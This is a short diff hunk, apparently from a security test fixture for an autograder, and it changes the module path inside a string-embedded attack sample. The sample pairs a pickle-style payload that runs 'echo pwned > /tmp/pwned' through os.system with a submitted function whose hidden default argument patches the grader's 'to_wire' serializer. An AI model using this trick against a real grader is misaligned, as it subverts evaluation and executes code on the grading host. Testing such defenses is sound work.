@@ -107,7 +107,7 @@ class Payload:
         import os
         return (os.system, ("echo pwned > /tmp/pwned",))
 
-def shift_images(images, dx, dy, _=__import__("autograder.protocol").protocol.__setattr__(
+def shift_images(images, dx, dy, _=__import__("autograder.worker.protocol").worker.protocol.__setattr__(
         "to_wire", lambda value, depth=0: value)):
     return Payload()
 '''}),
